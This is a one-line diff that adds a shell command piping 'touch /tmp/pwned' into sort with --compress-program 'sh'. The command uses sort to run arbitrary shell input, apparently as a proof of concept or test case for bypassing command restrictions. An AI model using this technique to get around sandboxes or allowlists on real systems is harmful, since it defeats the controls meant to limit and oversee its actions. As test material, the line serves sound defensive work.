@@ -1,0 +1,1 @@
+echo -e 'touch /tmp/pwned\nbbb\naaa' | sort -S 1b --compress-program "sh"
